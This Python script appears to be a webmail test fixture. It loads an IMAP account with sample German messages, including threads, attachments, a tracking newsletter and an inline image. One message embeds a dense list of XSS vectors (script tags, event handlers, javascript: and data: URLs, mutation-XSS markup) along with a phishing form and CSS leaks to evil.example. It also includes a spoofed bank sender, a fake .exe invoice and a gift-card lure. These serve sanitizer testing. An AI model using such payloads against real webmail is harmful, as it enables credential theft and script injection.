"""Fills an account by IMAP with mail that a webmail must show well, or must not be harmed by.

    fill.py PORT ADDRESS PASSWORD [MANY]      MANY: so many short messages more, of earlier dates
"""
import email.message
import email.policy
import email.utils
import imaplib
import ssl
import struct
import sys
import time
import zlib

HOUR = 3600
NOW = time.time()


def png(width, height, colour):
    """A picture of one colour, with a band."""
    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))
    other = bytes(min(255, c + 50) for c in colour)
    rows = b"".join(b"\0" + (other if height // 3 < y < height // 2 else bytes(colour)) * width for y in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
       b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def mail(sender, subject, text, hours, to="anna@example.org", html=None, message_id=None, answers=None, **fields):
    m = email.message.EmailMessage(email.policy.SMTP)
    m["From"] = sender
    m["To"] = to
    m["Subject"] = subject
    m["Date"] = email.utils.formatdate(NOW - hours * HOUR, localtime=False)
    m["Message-ID"] = message_id or email.utils.make_msgid(domain="fill.example")
    if answers:
        m["In-Reply-To"] = answers
        m["References"] = answers
    for name, value in fields.items():
        m[name.replace("_", "-")] = value
    m.set_content(text)
    if html:
        m.add_alternative(html, subtype="html")
    return m, NOW - hours * HOUR


NEWSLETTER = """<html><head><style>
@import url(https://tracker.invalid/x.css);
.card { background: #f4efe4; border-radius: 10px; padding: 24px; position: fixed }
h1 { font-family: Georgia, serif; color: #7a3b12 }
input[value^=a] { background: url(https://tracker.invalid/a) }
</style></head><body bgcolor="#ffffff" style="margin:0">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" class="card"><tr><td>
<h1>Neues aus der Werkstatt</h1>
<p>Guten Tag, Anna,</p>
<p>im Dezember zeigen wir, wie ein <b>Geigenboden</b> entsteht. Die Plätze sind knapp.</p>
<p><img src="https://pictures.invalid/violin.jpg" width="540" height="200" alt="Eine Geige auf der Werkbank"></p>
<p><a href="https://werkstatt.example/kurse" style="background:#7a3b12;color:#fff;padding:10px 18px;text-decoration:none">Platz sichern</a></p>
<p style="color:#777;font-size:12px">Sie erhalten diese Nachricht, weil Sie sich angemeldet haben.</p>
<img src="https://tracker.invalid/open.gif" width="1" height="1">
</td></tr></table></td></tr></table></body></html>"""

ATTACK = """<html><body onload="parent.pwned=1"><script>parent.pwned=1;top.pwned=1</script>
<h2>Ihr Konto</h2><p>Bitte bestätigen Sie Ihre Daten:
<a href="https://evil.example/login">https://www.sparkasse.example/login</a></p>
<form action="https://evil.example/collect"><input name="password" placeholder="Passwort"><button>Weiter</button></form>
<img src=x onerror="parent.pwned=1"><svg onload="parent.pwned=1"><script>parent.pwned=1</script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.pwned=1&gt;"></table></math>
<iframe src="javascript:parent.pwned=1"></iframe><object data="data:text/html,<script>parent.pwned=1</script>"></object>
<a href="javascript:parent.pwned=1">klick</a> <a href="&#106;avascript:parent.pwned=1">klick 2</a>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<div style="position:fixed;inset:0;background:url(https://evil.example/leak)">über allem</div>
<style>*{background:url(https://evil.example/css)} @import "https://evil.example/i.css";</style>
<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a"></audio>
<img src="data:image/svg+xml,<svg onload=parent.pwned=1>"><img srcset="https://evil.example/s 1x">
<p background="https://evil.example/bg">Mit freundlichen Grüßen</p></body></html>"""


def special():
    out = []
    first = "<plan-1@fill.example>"
    second = "<plan-2@fill.example>"
    out.append(("INBOX", *mail("Ben Berger <ben@example.org>", "Wanderung am Sonntag",
               "Hallo Anna,\n\nwollen wir am Sonntag auf den Schauinsland? Der Zug geht um 9:12 ab Gleis 4.\n"
               "Karte: https://karte.example/tour/4711 (oder www.wandern.example).\n\nLiebe Grüße\nBen\n-- \nBen Berger · 0761 555 0199\n",
               30, message_id=first), ("\\Seen",)))
    out.append(("Sent", *mail("Anna Albers <anna@example.org>", "Re: Wanderung am Sonntag",
               "Gern! Ich bringe Kaffee mit.\n\nAm Samstag schrieb Ben:\n> Hallo Anna,\n>\n> wollen wir am Sonntag auf den Schauinsland?\n"
               "> Der Zug geht um 9:12 ab Gleis 4.\n>\n> Liebe Grüße\n> Ben\n",
               29, to="Ben Berger <ben@example.org>", message_id=second, answers=first), ("\\Seen",)))
    out.append(("INBOX", *mail("Ben Berger <ben@example.org>", "Re: Wanderung am Sonntag",
               "Wunderbar. Treffpunkt 9 Uhr unter der großen Uhr.\n\nBen\n", 1.2, answers=second), ()))
    m, at = mail("Clara Conrad <clara@conrad.example>", "Angebot 2026-118 und Pläne",
                 "Guten Tag Frau Albers,\n\nanbei das Angebot, zwei Skizzen und das Protokoll.\n\nMit freundlichen Grüßen\nClara Conrad\n", 3)
    m.add_attachment(PDF, maintype="application", subtype="pdf", filename="Angebot 2026-118.pdf")
    m.add_attachment(png(320, 200, (180, 120, 60)), maintype="image", subtype="png", filename="Skizze Erdgeschoss.png")
    m.add_attachment(png(200, 300, (70, 120, 150)), maintype="image", subtype="png", filename="Skizze Obergeschoß mit einem sehr langen Namen.png")
    m.add_attachment("Protokoll\n=========\n\n1. Begrüßung\n".encode(), maintype="text", subtype="plain", filename="Protokoll.txt")
    m.add_attachment(b"MZ", maintype="application", subtype="octet-stream", filename="Rechnung.pdf.exe")
    out.append(("INBOX", m, at, ("\\Flagged",)))
    out.append(("INBOX", *mail("Geigenbau Hofmann <post@werkstatt.example>", "Neues aus der Werkstatt: Kurse im Dezember",
               "Neues aus der Werkstatt", 5, html=NEWSLETTER, List_Unsubscribe="<https://werkstatt.example/ab>"), ()))
    m, at = mail("Dilek Demir <dilek@demir.example>", "Fotos vom Fest", "Siehe Bild.", 8,
                 html='<p>Liebe Anna,</p><p>hier ein Bild vom Fest:</p><p><img src="cid:bild1@fill" width="320"></p><p>Herzlich, Dilek</p>')
    m.get_payload()[1].add_related(png(320, 180, (150, 90, 120)), maintype="image", subtype="png", cid="<bild1@fill>")
    out.append(("INBOX", m, at, ("\\Seen", "\\Answered")))
    out.append(("INBOX", *mail('"service@sparkasse.example" <info@evil.example>', "Dringend: Bestätigen Sie Ihr Konto",
               "Bitte bestätigen", 10, html=ATTACK, Reply_To="collect@other.example"), ()))
    out.append(("INBOX", *mail("Chef <chef@examp1e.org>", "Kurze Bitte", "Bist du im Büro? Ich brauche Gutscheine.\n", 20), ()))
    out.append(("INBOX", *mail("Élodie Durand <elodie@durand.example>", "Répétition de mardi — 日本語のテスト",
               "Bonjour,\n\nla répétition commence à 19 h.\n\n\u65e5\u672c\u8a9e\u3082\u5927\u4e08\u592b\u3002\n", 26), ("\\Seen",)))
    out.append(("INBOX", *mail("Städtische Bibliothek <bibliothek@stadt.example>", "Leihfrist endet in 3 Tagen",
               "Sehr geehrte Frau Albers,\n\nfolgende Medien sind bald fällig:\n\n  * Der Zauberberg\n  * Kochen im Winter\n", 50), ("\\Seen",)))
    out.append(("INBOX", *mail("<nobody@silent.example>", "", "Ohne Betreff.\n", 75), ("\\Seen",)))
    return out


NAMES = ["Ben Berger", "Clara Conrad", "Dilek Demir", "Emil Ernst", "Frieda Fuchs", "Gustav Graf", "Hanna Horn", "Igor Ivanov"]
TOPICS = ["Protokoll der Sitzung", "Rechnung", "Terminvorschlag", "Rückfrage zum Entwurf", "Einladung", "Lieferung unterwegs", "Newsletter", "Bitte um Rückruf"]


def many(n):
    for i in range(n):
        name = NAMES[i * 7 % 8]
        yield mail(f"{name} <{name.split()[0].lower()}@{name.split()[1].lower()}.example>", f"{TOPICS[i * 5 % 8]} {i + 1}",
                   f"Guten Tag,\n\nhier die Nachricht Nummer {i + 1} mit einigen Worten, damit die Vorschau etwas zu zeigen hat.\n", 80 + i * 3)


def main():
    port, address, password = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    c = imaplib.IMAP4_SSL("127.0.0.1", port, ssl_context=ssl._create_unverified_context())
    c.login(address, password)
    names = {}
    for line in c.list()[1]:
        text = line.decode()
        name = text.split(' "/" ')[-1]
        if "\\Sent" in text:
            names["Sent"] = name
    names["INBOX"] = "INBOX"

    def append(box, m, at, flags):
        typ, data = c.append(names[box], " ".join(flags), imaplib.Time2Internaldate(at), m.as_bytes())
        assert typ == "OK", data
    for m, at in many(int(sys.argv[4]) if len(sys.argv) > 4 else 0):
        append("INBOX", m, at, ("\\Seen",))
    for box, m, at, flags in special():
        append(box, m, at, flags)
    for name in ("Projekte", "Projekte/Gartenhaus", "Verein"):
        c.create(f'"{name}"')
        c.subscribe(f'"{name}"')
    c.logout()


if __name__ == "__main__":
    main()
